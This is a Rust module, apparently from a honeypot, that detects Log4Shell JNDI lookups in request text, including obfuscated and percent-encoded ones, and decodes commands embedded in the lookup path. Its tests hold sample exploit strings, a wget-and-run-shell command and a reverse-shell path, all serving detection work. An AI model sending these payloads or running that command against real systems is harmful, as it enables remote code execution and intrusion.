//! Extraction: JNDI lookups (the Log4Shell exploit, `${jndi:ldap://HOST:PORT/PATH}`) in any
//! header or body, also obfuscated (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`,
//! `${env:X:-j}`, `${date:'j'}`, nested lookups, `%xx` encoding). The C honeytrap predates
//! the exploit.
//!
//! The lookups are evaluated the way Log4j would, from the inside out, as far as that needs
//! nothing from the target: `${…:-default}` gives the default, `lower:`/`upper:` change the
//! case, `date:'x'` gives the quoted text; any other lookup stays as written. The endpoint a
//! `jndi:` lookup names (LDAP, RMI, DNS, …) is reported as an indicator and never contacted.
//! The command that some exploit kits carry in the lookup path
//! (`…/Basic/Command/Base64/<base64>`) is decoded and scanned like any command
//! (`…/Basic/ReverseShell/…` and other paths carry none).
//!
//! One linear pass with a stack of open lookups, at most [`MAX_NESTING`] deep, each at most
//! [`MAX_LOOKUP`] bytes; a line end closes them all.

use super::*;

/// Lookups open at once; deeper `${` are read as text.
pub const MAX_NESTING: usize = 16;
/// Longer lookups are abandoned.
pub const MAX_LOOKUP: usize = 4096;
/// `jndi:` lookups reported per scanned text.
pub const MAX_JNDI: usize = 8;

/// What a `jndi:` lookup names.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Jndi {
    /// `ldap://host:port` (scheme, host and port as written; the path left out).
    pub(super) endpoint: String,
    /// The decoded `Basic/Command/Base64/` command, if any.
    pub(super) command: Option<Vec<u8>>,
    /// Where the lookup starts in the text.
    pub(super) pos: usize,
}

/// The `jndi:` lookups in `t`, also in its `%xx`-decoded form when it has `%` escapes.
pub(super) fn jndi_lookups(t: &[u8]) -> Vec<Jndi> {
    let mut out = lookups(t);
    if contains_ci(t, b"%24") || contains_ci(t, b"%7b") {
        let mut dec = Vec::with_capacity(t.len());
        percent_decode_into(&mut dec, t);
        for j in lookups(&dec) {
            if out.len() < MAX_JNDI && !out.iter().any(|o| o.endpoint == j.endpoint && o.command == j.command) {
                out.push(j);
            }
        }
    }
    out
}

fn percent_decode_into(out: &mut Vec<u8>, s: &[u8]) {
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'%' {
            if let (Some(h), Some(l)) = (s.get(i + 1).and_then(|&c| hex(c)), s.get(i + 2).and_then(|&c| hex(c))) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
        }
        out.push(s[i]);
        i += 1;
    }
}

fn lookups(t: &[u8]) -> Vec<Jndi> {
    let mut found = Vec::new();
    if !t.windows(2).any(|w| w == b"${") {
        return found;
    }
    // Open lookups: (start in the text, text so far).
    let mut stack: Vec<(usize, Vec<u8>)> = Vec::new();
    let mut i = 0;
    while i < t.len() && found.len() < MAX_JNDI {
        let c = t[i];
        if c == b'$' && t.get(i + 1) == Some(&b'{') && stack.len() < MAX_NESTING {
            stack.push((i, Vec::new()));
            i += 2;
            continue;
        }
        match stack.last_mut() {
            None => {}
            Some(_) if c == b'\n' => stack.clear(),
            Some(_) if c == b'}' => {
                let (start, body) = stack.pop().unwrap_or_default();
                let value = evaluate(&body, start, &mut found);
                if let Some((_, parent)) = stack.last_mut() {
                    parent.extend_from_slice(&value);
                }
            }
            Some((_, body)) => {
                body.push(c);
                if body.len() > MAX_LOOKUP {
                    stack.clear();
                }
            }
        }
        i += 1;
    }
    found
}

/// The value of the lookup `${body}` (its inner lookups already replaced by their values);
/// a `jndi:` lookup is added to `found` and is worth nothing.
fn evaluate(body: &[u8], start: usize, found: &mut Vec<Jndi>) -> Vec<u8> {
    if starts_ci(body, 0, b"jndi:") {
        if let Some(j) = jndi(&body[5..], start) {
            if found.len() < MAX_JNDI {
                found.push(j);
            }
        }
        return Vec::new();
    }
    if let Some(k) = body.windows(2).position(|w| w == b":-") {
        return body[k + 2..].to_vec();
    }
    if starts_ci(body, 0, b"lower:") {
        return body[6..].to_ascii_lowercase();
    }
    if starts_ci(body, 0, b"upper:") {
        return body[6..].to_ascii_uppercase();
    }
    if starts_ci(body, 0, b"date:") {
        return body[5..].iter().copied().filter(|&c| c != b'\'').collect();
    }
    // Anything else depends on the target: left as written, as Log4j leaves what it cannot
    // resolve.
    let mut v = b"${".to_vec();
    v.extend_from_slice(body);
    v.push(b'}');
    v
}

/// `ldap://host:port/path`: the endpoint and the command in the path.
fn jndi(target: &[u8], start: usize) -> Option<Jndi> {
    let sep = target.windows(3).position(|w| w == b"://")?;
    let scheme = &target[..sep];
    if scheme.is_empty() || !scheme.iter().all(u8::is_ascii_alphanumeric) {
        return None;
    }
    let rest = &target[sep + 3..];
    let auth_end = rest.iter().position(|&c| c == b'/').unwrap_or(rest.len());
    let authority = &rest[..auth_end];
    if authority.is_empty() {
        return None;
    }
    let path = &rest[auth_end..];
    const MARK: &[u8] = b"/command/base64/";
    let command =
        path.windows(MARK.len()).position(|w| w.eq_ignore_ascii_case(MARK)).map(|k| &path[k + MARK.len()..]).and_then(
            |b| {
                let end = b.iter().position(|&c| matches!(c, b'/' | b'?' | b'#' | b' ')).unwrap_or(b.len());
                let mut dec = Vec::new();
                percent_decode_into(&mut dec, &b[..end]);
                base64_decode(&dec)
            },
        );
    Some(Jndi {
        endpoint: format!("{}://{}", lower(scheme).escape_ascii(), authority.escape_ascii()),
        command,
        pos: start,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn endpoints(t: &str) -> Vec<String> {
        jndi_lookups(t.as_bytes()).into_iter().map(|j| j.endpoint).collect()
    }

    #[test]
    fn plain_and_obfuscated_lookups() {
        let want = ["ldap://192.0.2.70:1389"];
        for t in [
            "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://192.0.2.70:1389/a}\r\n\r\n",
            "${${lower:j}ndi:ldap://192.0.2.70:1389/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.70:1389/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.70:1389/a}",
            "${${upper:j}${date:'n'}di:${lower:LDAP}://192.0.2.70:1389/a}",
            "User-Agent: %24%7Bjndi%3Aldap%3A%2F%2F192.0.2.70%3A1389%2Fa%7D",
            "${jNdI:LdAp://192.0.2.70:1389/x}",
        ] {
            assert_eq!(endpoints(t), want, "{t}");
        }
        assert_eq!(
            endpoints("${jndi:rmi://h.example/o} ${jndi:dns://192.0.2.71/q}"),
            ["rmi://h.example", "dns://192.0.2.71"]
        );
        // A lookup of the target's environment stays as written in the endpoint.
        assert_eq!(endpoints("${jndi:ldap://${env:USER}.x.example/a}"), ["ldap://${env:USER}.x.example"]);
        for t in ["${jndi}", "${jndi:ldap:/x}", "${jndi:ldap://192.0.2.70", "$ {jndi:ldap://a/b}", "{jndi:ldap://a/b}"]
        {
            assert!(endpoints(t).is_empty(), "{t}");
        }
    }

    #[test]
    fn commands_in_the_lookup_path() {
        let cmd = b"wget http://192.0.2.72/j.sh -O /tmp/j; sh /tmp/j";
        let b64 = crate::pipeline::decode::base64_encode(cmd);
        let got = jndi_lookups(format!("${{jndi:ldap://192.0.2.70:1389/Basic/Command/Base64/{b64}}}").as_bytes());
        assert_eq!(got[0].command.as_deref(), Some(&cmd[..]));
        let got = jndi_lookups(b"${jndi:ldap://192.0.2.70:1389/Basic/ReverseShell/192.0.2.9/4444}");
        assert_eq!(got[0].command, None);
    }

    #[test]
    fn bounded() {
        let deep = "${".repeat(10_000) + "jndi:ldap://a/b" + &"}".repeat(10_000);
        assert!(jndi_lookups(deep.as_bytes()).len() <= MAX_JNDI);
        let long = format!("${{jndi:ldap://a/{}}}", "x".repeat(MAX_LOOKUP));
        assert!(jndi_lookups(long.as_bytes()).is_empty());
        let many = "${jndi:ldap://192.0.2.1/a}".repeat(100);
        assert_eq!(jndi_lookups(many.as_bytes()).len(), MAX_JNDI);
    }
}
